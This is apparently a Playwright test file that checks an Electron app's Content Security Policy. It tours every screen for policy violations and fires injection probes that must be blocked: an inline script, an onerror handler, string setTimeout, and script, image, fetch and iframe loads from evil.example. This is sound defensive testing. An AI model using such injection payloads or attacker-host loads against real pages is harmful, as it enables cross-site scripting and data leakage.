import type { Page } from '@playwright/test';
import { expect, test } from '../support/app.ts';
import { login } from '../support/login.ts';
import { allRoutes, visit } from '../support/visitScreens.ts';

interface Violation {
  directive: string;
  blocked: string;
}

/** Collects CSP violations, also in documents loaded later. */
const collectViolations = async (page: Page): Promise<() => Promise<Violation[]>> => {
  const listen = (): void => {
    const found: Violation[] = [];
    Object.assign(window, { policyViolations: found });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      found.push({ directive: effectiveDirective, blocked: blockedURI });
    });
  };
  await page.addInitScript(listen);
  await page.evaluate(listen);
  return () => page.evaluate(() => (window as unknown as { policyViolations: Violation[] }).policyViolations);
};

test('a tour of every screen never violates the policy @electron', async ({ app }) => {
  const page = await app.start();
  const violations = await collectViolations(page);
  await page.reload();
  await login(page);
  for (const route of await allRoutes(page)) {
    await visit(page, route);
    expect(await violations(), route).toEqual([]);
  }
});

const probes: [string, () => void][] = [
  [
    'script-src-elem',
    () => {
      document.body.append(
        Object.assign(document.createElement('script'), { textContent: 'window.hacked = true' }),
      );
    },
  ],
  [
    'script-src-attr',
    () => {
      const image = document.createElement('img');
      image.setAttribute('onerror', 'window.hacked = true');
      document.body.append(image);
      image.src = 'data:,';
    },
  ],
  [
    'script-src-elem',
    () => {
      document.body.append(
        Object.assign(document.createElement('script'), { src: 'https://evil.example/script.js' }),
      );
    },
  ],
  [
    'img-src',
    () => {
      document.body.append(
        Object.assign(document.createElement('img'), { src: 'https://evil.example/pixel.png' }),
      );
    },
  ],
  ['connect-src', () => void fetch('https://evil.example/').catch(() => undefined)],
  [
    'frame-src',
    () => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }));
    },
  ],
];

test('forbidden resources are blocked, and text is never run as code @electron', async ({ app }) => {
  const page = await app.start();
  await expect(page.getByRole('button', { name: 'Log in' })).toBeVisible();
  await test.step('text is never run as code', async () => {
    const outcome = await page.evaluate(() => {
      const code: unknown = setTimeout('window.hacked = true', 0);
      return typeof code;
    });
    expect(outcome).toBe('number');
    await page.waitForTimeout(100);
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  });
  await test.step('forbidden resources are blocked', async () => {
    const violations = await collectViolations(page);
    for (const [directive, probe] of probes) {
      const before = (await violations()).length;
      await page.evaluate(probe);
      const stopped = async () => (await violations()).slice(before).map(({ directive: name }) => name);
      await expect.poll(stopped, probe.toString()).toContain(directive);
    }
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  });
});
